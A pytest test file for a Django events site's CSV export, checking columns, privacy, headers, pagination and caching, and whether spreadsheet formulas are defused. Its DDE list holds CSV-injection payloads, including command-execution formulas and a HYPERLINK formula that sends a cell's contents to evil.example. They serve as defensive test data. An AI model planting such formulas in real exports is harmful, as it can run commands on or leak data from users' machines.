"""Lists as CSV, as a spreadsheet program and Python's own reader get them."""

import csv
import re
from datetime import UTC, date, datetime, time
from io import StringIO

import pytest
import time_machine
from hypothesis import given
from hypothesis import strategies as st

from events.formats import table
from events.models import Area, Event, Series
from organizers.models import Person

pytestmark = pytest.mark.django_db
NOW = datetime(2026, 5, 1, 12, tzinfo=UTC)
HEADER = (
    "uid,title,kind,status,status_note,pace,start_date,start_time,end_date,end_time,zone,"
    "starts_at,ends_at,certainty,format,platforms,venue,city,country,country_name,"
    "organizers,partners,speakers,languages,themes,areas,series,number_in_series,"
    "registration,registration_deadline,registration_url,cost,summary,url,changed_at,sample"
)
DDE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Register")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b\ufeff=1+1",
    "\u202e=1+1",
    '"=1+1',
    "' =1+1",
    "“=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]


@pytest.fixture(autouse=True)
def now():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def rows(client):
    """The rows of a list, each by the names of its columns."""

    def get(address="/events.csv"):
        response = client.get(address)
        assert response.status_code == 200
        assert not response.cookies
        text = response.content.decode("utf-8-sig")
        return list(csv.DictReader(StringIO(text, newline=""), strict=True))

    return get


@pytest.fixture
def rich(make_event, make_organization, make_theme, make_area):
    event = make_event(
        "Words; “and” walls, 1994",
        start="2026-06-10 09:00",
        hours=1.5,
        zone="America/New_York",
        status="rescheduled",
        status_note="A new hall.",
        series=Series.objects.create(title="Four lectures"),
        number_in_series=3,
        summary='One line.\r\n\r\nAnother, with “quotes” and "more".',
        format="hybrid",
        platforms=["Zoom", "YouTube"],
        venue="Room XX",
        city="Geneva",
        country="CH",
        registration="required",
        registration_deadline=date(2026, 6, 8),
        registration_deadline_time=time(18),
        registration_deadline_zone="America/New_York",
        cost="free",
        themes=[make_theme("memory", name="Memory"), make_theme("law", name="Law")],
        areas=[make_area("RW", "Rwanda")],
        languages=["en"],
    )
    event.languages.create(language="fr", mode="interpretation")
    for name, role in (("PAX", "sponsor"), ("Ibuka", "host"), ("UNESCO", "organizer")):
        event.credits.create(organization=make_organization(name), role=role)
    for order, (name, visibility) in enumerate(
        (("Léa Ünal", "named"), ("Susan Hush", "withheld"), ("Nobody Known", "hidden"))
    ):
        event.participations.create(
            person=Person.objects.create(name=name), visibility=visibility, order=order
        )
    event.links.create(kind="join", url="https://example.org/join/secret")
    event.links.create(kind="registration", url="https://example.org/1", access="staff")
    event.links.create(kind="registration", url="https://example.org/register")
    return event


def test_a_row_tells_an_event(rich, rows):
    [row] = rows()

    assert row == {
        "uid": str(rich.uuid),
        "title": "Words; “and” walls, 1994",
        "kind": "webinar",
        "status": "rescheduled",
        "status_note": "A new hall.",
        "pace": "dated",
        "start_date": "2026-06-10",
        "start_time": "09:00",
        "end_date": "2026-06-10",
        "end_time": "10:30",
        "zone": "America/New_York",
        "starts_at": "2026-06-10T09:00:00-04:00",
        "ends_at": "2026-06-10T10:30:00-04:00",
        "certainty": "stated",
        "format": "hybrid",
        "platforms": "Zoom; YouTube",
        "venue": "Room XX",
        "city": "Geneva",
        "country": "CH",
        "country_name": "Switzerland",
        "organizers": "UNESCO; Ibuka",
        "partners": "PAX",
        "speakers": "Léa Ünal; Name withheld",
        "languages": "English; French (interpretation)",
        "themes": "Law; Memory",
        "areas": "Rwanda",
        "series": "Four lectures",
        "number_in_series": "3",
        "registration": "required",
        "registration_deadline": "2026-06-08T18:00:00-04:00",
        "registration_url": "https://example.org/register",
        "cost": "free",
        "summary": 'One line.\n\nAnother, with “quotes” and "more".',
        "url": "http://127.0.0.1:8000/events/words-and-walls-1994/",
        "changed_at": rich.entry.changed_at(NOW).isoformat(),
        "sample": "false",
    }
    assert list(row) == HEADER.split(",")


def test_what_is_not_known_is_empty(make_event, rows):
    make_event("A day", start="2026-06-10", registration_deadline=date(2026, 6, 8))
    make_event("Some day")
    Event.objects.update(is_sample=True)
    day, undated = rows()

    assert day["registration_deadline"] == "2026-06-08"
    assert undated["sample"] == "true"
    for name in ("start_time", "end_date", "starts_at", "ends_at", "zone", "series"):
        assert day[name] == "", name
    assert undated["start_date"] == undated["country"] == undated["organizers"] == ""


def test_nothing_that_is_not_public_is_told(rich, make_event, client):
    make_event("Hush draft", state="draft")
    text = client.get("/events.csv?when=all").content.decode()

    for secret in ("Hush", "Nobody Known", "secret", "example.org/1"):
        assert secret not in text


def test_the_file_is_what_spreadsheet_programs_read(rich, client):
    response = client.get("/events.csv")
    lines = response.content.split(b"\r\n")

    assert response["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert response["Content-Disposition"] == 'attachment; filename="events.csv"'
    assert response["Access-Control-Allow-Origin"] == "*"
    assert response["Cache-Control"] == "no-cache"
    assert "Link" not in response
    assert lines[0] == b"\xef\xbb\xbf" + HEADER.encode()
    assert lines[-1] == b""
    assert "Léa Ünal".encode() in response.content


def test_a_list_without_events_has_its_header(client):
    assert client.get("/events.csv").content.decode("utf-8-sig") == f"{HEADER}\r\n"


def test_rows_stand_in_the_order_of_the_list(make_event, rows):
    for day in (3, 1, 2):
        make_event(f"June {day}", start=f"2026-06-0{day}")
        make_event(f"March {day}", start=f"2026-03-0{day}")

    coming = ["June 1", "June 2", "June 3"]
    assert [row["title"] for row in rows()] == coming
    gone = ["March 3", "March 2", "March 1"]
    assert [row["title"] for row in rows("/events.csv?when=past")] == gone
    assert [row["title"] for row in rows("/events.csv?when=all")] == coming + gone
    assert [row["title"] for row in rows("/events.csv?q=june&to=2026-06-02")] == coming[:2]


def test_a_long_list_goes_on_in_another_file(make_event, rows, client, monkeypatch):
    monkeypatch.setattr(table, "PER_FILE", 2)
    for number in range(5):
        make_event(f"No. {number}", start="2026-06-01")

    read, address = [], "/events.csv?kind=webinar&tz=Africa/Nairobi"
    for file in range(3):
        response = client.get(address)
        read += [row["title"] for row in rows(address)]
        links = response.headers.get("Link", "").split(", ")
        further = [link for link in links if link.endswith('; rel="next"')]
        assert any('rel="prev"' in link for link in links) == (file > 0)
        if further:
            address = further[0].partition(">")[0].removeprefix("<http://127.0.0.1:8000")
            assert "kind=webinar" in address
            assert "tz=Africa%2FNairobi" in address
    assert further == []
    assert read == [f"No. {number}" for number in range(5)]


# -- formulas


def test_a_formula_is_defused():
    for text in DDE:
        assert table.defused(text).startswith("'"), text


@pytest.mark.parametrize("before", ["PAX; ", "a;", "one\n", "one\r\n", 'b";'])
def test_a_formula_is_defused_where_a_text_may_be_broken(before):
    for text in DDE:
        defused = table.defused(before + text)
        assert defused.replace("'", "") == (before + text).replace("'", ""), text
        for part in re.split("[;\r\n]", defused):
            shown = part.lstrip(' \t\xa0\u200b\ufeff\u202e"“')
            assert shown[:1] not in [*"=+-@＝＋－＠"], text


@pytest.mark.parametrize(
    "text",
    [
        "",
        "2026-06-10T09:00:00-04:00",
        "On words, 1994–2024: what 1+1=2 has to do with it",
        "One line.\r\n\r\nAnother line.",
        "a; b; c",
        "https://example.org/?a=b;c=d",
        "‘Never again’ – @UN",
    ],
)
def test_plain_text_stays_as_it_is(text):
    assert table.defused(text) == text


@given(st.text(alphabet="=+-@;\"' \t\r\n\u200ba", max_size=8))
def test_no_cell_and_no_part_of_one_begins_with_a_formula(text):
    cell = table.defused(text)

    assert cell[:1] not in [*"=+-@\t\r\n"]
    for part in re.split("[;\r\n]", cell):
        assert part.strip(' \t"\u200b')[:1] not in [*"=+-@"]
    assert not cell.startswith("''") or text.startswith("'")
    assert cell.replace("'", "") == text.replace("'", "")


def test_hostile_texts_reach_the_cell_defused(make_event, make_organization, rows):
    make_event(
        DDE[0],
        start="2026-06-01",
        summary=DDE[4],
        city="@SUM(1)",
        venue="\x0b=1+1 \x1f",
        organizers=[make_organization("A"), make_organization(DDE[1])],
    )
    Event.objects.update(status_note='"\r\nuid,title\r\n')  # as earlier rows may have it
    [row] = rows()

    assert row["title"] == f"'{DDE[0]}"
    assert row["summary"] == f"'{DDE[4]}"
    assert row["city"] == "'@SUM(1)"
    assert row["venue"].startswith("'")
    assert row["organizers"] == f"A;' {DDE[1]}"
    assert row["status_note"] == '"\r\nuid,title\r\n'


# -- answers


def test_it_is_sent_once_while_nothing_has_changed(rich, client):
    first = client.get("/events.csv")
    again = client.get("/events.csv", headers={"If-None-Match": first["ETag"]})
    head = client.head("/events.csv")

    assert again.status_code == 304
    assert not again.content
    assert (head.status_code, head.content) == (200, b"")
    assert head["ETag"] == first["ETag"]

    Event.objects.update(staff_note="Not for you.")
    assert client.get("/events.csv")["ETag"] == first["ETag"]
    Event.objects.update(title="Another")
    assert client.get("/events.csv")["ETag"] != first["ETag"]


@pytest.mark.parametrize(
    ("query", "status", "said"),
    [
        ("topic=law", 400, "There is no parameter “topic” here."),
        ("theme=nonsense", 400, "There is no theme “nonsense” here."),
        ("from=tomorrow", 400, "Write the day as year-month-day"),
        ("tz=Nowhere", 400, "tz is not the IANA name"),
        ("after=0", 404, "This list has no such page."),
    ],
)
def test_what_is_not_understood_is_said_in_plain_text(client, query, status, said):
    response = client.get(f"/events.csv?{query}")

    assert response.status_code == status
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert "Content-Disposition" not in response
    assert said in response.content.decode()


# Within the test's transaction the catalogue takes two queries; on the site it takes one.
@pytest.mark.parametrize("number", [1, 5])
def test_a_table_takes_the_same_queries_however_many_rows(
    client, django_assert_num_queries, make_event, make_organization, make_theme, number
):
    theme, host = make_theme("law"), make_event("Host", start="2026-06-02")
    organizations = [make_organization(f"Org {n}") for n in range(number)]
    people = [Person.objects.create(name=f"Person {n}") for n in range(number)]
    area = Area.objects.create(code="RW", name="Rwanda", kind="country")
    for n in range(number):
        event = make_event(
            f"Event {n}",
            start="2026-06-01",
            themes=[theme],
            areas=[area],
            organizers=organizations,
            languages=["en", "fr"],
            series=Series.objects.create(title=f"Series {n}"),
            parent=host,
            follows=host,
        )
        for person in people:
            event.participations.create(person=person)
        event.links.create(url="https://example.org")

    with django_assert_num_queries(12):
        assert client.get("/events.csv").status_code == 200
